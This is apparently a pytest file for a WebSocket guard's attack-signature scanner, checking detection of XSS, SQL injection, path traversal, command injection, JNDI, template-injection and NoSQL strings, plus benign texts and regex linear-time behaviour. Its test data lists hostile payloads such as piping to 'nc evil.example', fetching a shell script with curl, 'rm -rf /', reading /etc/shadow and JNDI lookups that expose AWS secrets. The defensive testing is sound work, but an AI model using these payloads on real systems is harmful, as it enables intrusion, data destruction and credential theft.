"""Tests for the attack-signature scanner: matches, non-matches, paths, linear time."""

from __future__ import annotations

import importlib.util
import time
from pathlib import Path
from types import ModuleType
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wsguard.core.signatures import (
    CATEGORIES,
    SignatureConfig,
    SignatureMatch,
    SignatureScanner,
)
from wsguard.exceptions import ConfigurationError

SCANNER = SignatureScanner()

POSITIVE: dict[str, list[str]] = {
    "xss": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js>",
        '<a href="javascript:alert(1)">x</a>',
        "JavaScript:alert(document.cookie)",
        "javascript: alert(1)",
        "<img src=x onerror=alert(1)>",
        '<svg onload="alert(1)">',
        "<svg/onload=alert(1)>",
        "<body onpageshow = alert(1)>",
        "<iframe src=//evil.example>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
    ],
    "sqli": [
        "' or 1=1 --",
        "admin' OR '1'='1",
        "x'or'a'='a",
        '" or ""="',
        "1' and 2>1",
        "1 or 1=1",
        "1 UNION SELECT password FROM users",
        "1 union all select null",
        "1 union/**/select 1",
        "'; DROP TABLE users; --",
        "1; delete from users",
        "1 and sleep(5)",
        "benchmark(1000000,md5(1))",
        "pg_sleep(10)",
        "admin'--",
        "admin'#",
        "1')/* comment",
        "name' --",
        "1/**/or/**/1",
        "/*!50000select*/",
        "'; waitfor delay '0:0:5'",
    ],
    "path_traversal": [
        "../../etc/hosts",
        "..\\..\\boot",
        "%2e%2e%2fsecret",
        "..%2f..%2f",
        "%252e%252e%252f",
        ".%2e/x",
        "%c0%ae%c0%ae/",
        "/etc/passwd",
        "/proc/self/environ",
        "C:\\Windows\\System32",
        "c:/windows/win.ini",
    ],
    "command_injection": [
        "x; rm -rf /",
        "x | nc evil.example 4444",
        "x && curl http://evil.example/a.sh",
        "x; wget evil.example/a.sh",
        "`id`",
        "`cat /etc/shadow`",
        "$(whoami)",
        "$( curl evil.example )",
        "a;id",
        "x || uname -a",
        "curl http://x | sh",
        "cat${IFS}/etc/hosts",
        "/bin/sh -c x",
        "x; bash -c 'x'",
    ],
    "jndi": [
        "${jndi:ldap://evil.example/a}",
        "${JNDI:rmi://x}",
        "${${lower:j}ndi:ldap://x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.home}",
        "%24%7Bjndi:ldap://x%7D",
    ],
    "template_injection": [
        "{{7*7}}",
        "{{ 7 * 7 }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config}}",
        "{{ config.items() }}",
        "{{ self._TemplateReference__context }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "x.__init__.__globals__",
        "{{ x|attr('__class__') }}",
        "T(java.lang.Runtime).getRuntime()",
    ],
    "nosql": [
        '{"$ne": null}',
        "{'$gt': ''}",
        '{"username": {"$regex": ".*"}}',
        "$where: function() { return true }",
        "this.a == 1; $where",
    ],
}

BENIGN = [
    "I'll select a table from the shop",
    "drop me a line",
    "1 < 2 and 3 > 2",
    "C# and F#",
    "email me at a@b.c",
    "it's 50% off",
    "what's {{name}}?",
    "javascript: the good parts",
    "Let's meet at 5:30; ok?",
    "$(document).ready(init)",
    "List<Object> items",
    "join '#general' please",
    "def __init__(self):",
    "Tom & Cat are friends",
    "I need sleep (lots of it)",
    "the union members select a rep",
    "someone=here",
    "<b>hi</b> online=yes",
    "'quoted' -- said someone, later",
    "a || b && c",
    "costs $5 or $10",
    "see you at 10:00 - bring the docs/notes",
    "my file is notes.txt",
    "version 1.2.3",
    "https://example.com/path/to/page?q=1&r=2",
    "I'm sure it's fine, isn't it?",
    'he said "or else" and left',
    "nice; cat videos are the best",
    "done :) see ya",
]


@pytest.mark.parametrize(
    ("category", "text"),
    [(category, text) for category, texts in POSITIVE.items() for text in texts],
)
def test_positive_examples_match_their_category(category: str, text: str) -> None:
    """Each known attack string is reported with its category."""
    assert SCANNER.scan_text(text) == category


def test_every_category_has_examples() -> None:
    """The examples cover every category."""
    assert set(POSITIVE) == set(CATEGORIES)


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_chat_text_does_not_match(text: str) -> None:
    """Ordinary sentences, some with SQL words or symbols, are not flagged."""
    assert SCANNER.scan_text(text) is None


def test_bare_template_placeholder_is_not_template_injection() -> None:
    """{{name}} is a placeholder, not an expression (a documented decision)."""
    assert SCANNER.scan_text("Hello {{name}}, your order {{ order_id }} shipped") is None
    assert SCANNER.scan_text("Hello {{7*7}}") == "template_injection"


def test_first_match_in_the_text_wins() -> None:
    """Two attacks in one string: the earlier one is reported."""
    assert SCANNER.scan_text("../x then <script>") == "path_traversal"
    assert SCANNER.scan_text("<script> then ../x") == "xss"


def test_jndi_is_reported_rather_than_template_injection() -> None:
    """A lookup starts with "${" like a template expression: JNDI wins."""
    assert SCANNER.scan_text("${jndi:ldap://x/${7*7}}") == "jndi"


def test_non_ascii_text_is_scanned() -> None:
    """Lowercasing a non-ASCII string does not break the scan."""
    assert SCANNER.scan_text("İstanbul ÇAY <SCRİPT>") is None
    assert SCANNER.scan_text("日本語 <script>") == "xss"


# scan(): walking a message.


def test_scan_reports_the_path_of_the_string() -> None:
    """The path names the string that matched, keys and indexes included."""
    message = {
        "type": "chat",
        "payload": {"items": [{"name": "ok"}, {"name": "<script>alert(1)</script>"}]},
    }
    assert SCANNER.scan(message) == SignatureMatch("xss", "$.payload.items[1].name")


def test_scan_returns_none_for_a_clean_message() -> None:
    """A message without attack strings gives None."""
    message = {"type": "chat", "payload": {"text": "drop me a line", "n": 3, "ok": True}}
    assert SCANNER.scan(message) is None


def test_scan_checks_keys_and_reports_them_at_their_object() -> None:
    """A key is scanned like a value; its path is its object's, not the key's text."""
    message = {"payload": {"filter": {"$ne": None}}}
    assert SCANNER.scan(message) == SignatureMatch("nosql", "$.payload.filter")


def test_scan_uses_the_path_prefix() -> None:
    """The path starts with the prefix given by the caller."""
    assert SCANNER.scan(["../x"], path="$.payload") == SignatureMatch(
        "path_traversal", "$.payload[0]"
    )


def test_scan_quotes_unusual_keys() -> None:
    """Keys that are not identifiers are quoted as in the sanitizer's paths."""
    assert SCANNER.scan({"a b": "x; rm -rf /"}) == SignatureMatch("command_injection", '$["a b"]')


def test_scan_first_match_in_document_order() -> None:
    """Of two matching values, the first one in the document is reported."""
    message = {"a": ["fine", "{{7*7}}"], "b": "<script>"}
    assert SCANNER.scan(message) == SignatureMatch("template_injection", "$.a[1]")


def test_scan_walks_tuples_and_structs() -> None:
    """msgspec structs are walked by field, with their encoded names in the path."""

    class Item(msgspec.Struct, rename="camel"):
        display_name: str

    class Payload(msgspec.Struct):
        items: tuple[Item, ...]
        count: int = 0

    value = Payload(items=(Item(display_name="ok"), Item(display_name="${jndi:ldap://x}")))
    assert SCANNER.scan(value, path="$.payload") == SignatureMatch(
        "jndi", "$.payload.items[1].displayName"
    )


def test_scan_skips_short_strings_and_other_types() -> None:
    """Strings under 3 characters, numbers, bytes and None are not scanned."""
    message: dict[str, Any] = {"a": "..", "b": 1, "c": None, "d": b"../../x", "e": 2.5}
    assert SCANNER.scan(message) is None


def test_scan_a_bare_string() -> None:
    """The top-level value may be a string."""
    assert SCANNER.scan("' or 1=1 --") == SignatureMatch("sqli", "$")


def test_scan_string_subclasses() -> None:
    """Subclasses of str (the sanitizer's Html, SafePath) are scanned."""

    class Marked(str):
        pass

    assert SCANNER.scan({"x": Marked("../../etc/passwd")}) == SignatureMatch(
        "path_traversal", "$.x"
    )


# Config.


def test_config_defaults() -> None:
    """Scanning is on and a match adds to the score by default."""
    config = SignatureConfig()
    assert config.enabled is True
    assert config.action == "score"


def test_config_refuses_an_unknown_action() -> None:
    """A typo in the action stops the start, naming the setting."""
    with pytest.raises(ConfigurationError) as caught:
        SignatureConfig(action="block")  # type: ignore[arg-type]
    assert caught.value.setting == "signatures.action"


def test_config_refuses_a_non_boolean_enabled() -> None:
    """enabled must be a boolean, not a truthy string."""
    with pytest.raises(ConfigurationError) as caught:
        SignatureConfig(enabled="no")  # type: ignore[arg-type]
    assert caught.value.setting == "signatures.enabled"


# Backtracking.


def _load_redos() -> ModuleType:
    path = Path(__file__).resolve().parents[2] / "benchmarks" / "redos.py"
    spec = importlib.util.spec_from_file_location("wsguard_bench_redos", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


REDOS = _load_redos()
SMALL = 8 * 1024


def _best_ms(text: str, runs: int = 3) -> float:
    best = float("inf")
    for _ in range(runs):
        start = time.perf_counter()
        SCANNER.scan_text(text)
        best = min(best, time.perf_counter() - start)
    return best * 1000


@pytest.mark.parametrize("category", CATEGORIES)
def test_adversarial_strings_scan_in_linear_time(category: str) -> None:
    """64 KiB takes about 8x the time of 8 KiB, not 64x: no catastrophic backtracking.

    The bound is loose (40x, plus 5 ms for timer noise) so that a busy machine
    does not fail it, while a quadratic pattern (64x and more) does.
    """
    large = REDOS.adversarial_strings(REDOS.SIZE)[category]
    small = REDOS.adversarial_strings(SMALL)[category]
    for big_text, small_text in zip(large, small, strict=True):
        assert SCANNER.scan_text(big_text) is None, big_text[:20]
        small_ms = _best_ms(small_text)
        large_ms = _best_ms(big_text, runs=2)
        assert large_ms < 40 * small_ms + 5, (big_text[:20], small_ms, large_ms)


def test_a_window_does_not_grow_with_the_text() -> None:
    """Long runs inside a window (e.g. after "<a") stop at the window's bound."""
    text = "<a " + "x" * (REDOS.SIZE - 3)
    assert SCANNER.scan_text(text) is None
    assert SCANNER.scan_text("<a " + "x" * 150 + " onclick=alert(1)>") == "xss"
    assert SCANNER.scan_text("<a " + "x" * 250 + " onclick=alert(1)>") is None


def test_struct_payload_paths_use_encoded_names() -> None:
    """Struct payloads (the usual case) report the wire name and nested positions."""
    import msgspec

    from wsguard.core.signatures import SignatureScanner

    class Item(msgspec.Struct, frozen=True, rename="camel"):
        display_name: str

    class Payload(msgspec.Struct, frozen=True):
        title: str
        count: int
        items: tuple[Item, ...] = ()

    scanner = SignatureScanner()
    clean = Payload("hello there", 3, (Item("alice"), Item("bob")))
    assert scanner.scan(clean, "$.payload") is None
    dirty = Payload("hello", 3, (Item("alice"), Item("<script>alert(1)</script>")))
    match = scanner.scan(dirty, "$.payload")
    assert match is not None
    assert (match.category, match.path) == ("xss", "$.payload.items[1].displayName")
    first = scanner.scan(Payload("x' or 1=1 --", 0), "$.payload")
    assert first is not None and first.path == "$.payload.title"


# The blank-anchored rules are searched on their own and "union select" is
# anchored on the word: the scanner must still answer as the one combined
# pattern it replaced, built here as it was.


def _combined_reference() -> Any:
    import re

    from wsguard.core import signatures as sig

    number_pair = r"\s{1,10}(?P<_n>\d{1,10})\s{0,5}=\s{0,5}(?P=_n)\b"
    blank = (
        " ",
        "",
        (
            ("sqli", "or" + number_pair),
            ("sqli", "and" + number_pair),
            (
                "sqli",
                rf"(?<=union\s)(?<!\wunion\s){sig._SQL_GAP}{{0,9}}+"
                rf"(?:all{sig._SQL_GAP}{{1,10}})?select\b",
            ),
        ),
    )
    groups: dict[str, str] = {}
    anchors = [entry for entry in sig._ANCHORS if entry[0] != "u"] + [blank]
    pattern = re.compile(
        "|".join(
            re.escape(anchor) + prefix + sig._alternation(rules, groups)
            for anchors_, prefix, rules in anchors
            for anchor in anchors_
        )
    )

    def scan(text: str) -> str | None:
        lowered = text.lower()
        if lowered[:1] == "$" and lowered[1:] in sig._NOSQL_OPERATORS:
            return "nosql"
        found = pattern.search(lowered)
        return None if found is None else groups[str(found.lastgroup)]

    return scan


_REFERENCE = _combined_reference()
_PIECES = [
    " ", "  ", "\t", "union", "UNION", "select", "all", "/**/", "/*x*/", "or", "OR", "and",
    "1", "12", "=", " = ", "'", '"', "<", "script", ">", "../", ".", ";", "drop table",
    "x", "a", "--", "|", "&", "sleep(5)", "$ne", "{{7*7}}", "javascript:", "nunion", "_",
    "é", "\u00a0",
    # Whole and near-whole attacks on the moved rules, so that examples reach them.
    " and 1=1", " or 2=2", " OR 3 = 3", " or 1=2", " and\t7=7", " or 1=11", "1=1",
    "union select", " union select", " union all select", "xunion select", "union  select",
    " union/**/select", "union\tselect", " union all/**/select", " union selection",
]  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=14).map("".join))
def test_scan_answers_as_the_combined_pattern(text: str) -> None:
    assert SignatureScanner().scan_text(text) == _REFERENCE(text)


@pytest.mark.parametrize(
    "text",
    ["1 union select 1", "x union all select", "a union/**/select", "' or 1=1", "x or 2=2 and 3=3"],
)
def test_moved_rules_still_match(text: str) -> None:
    assert SignatureScanner().scan_text(text) == _REFERENCE(text) == "sqli"
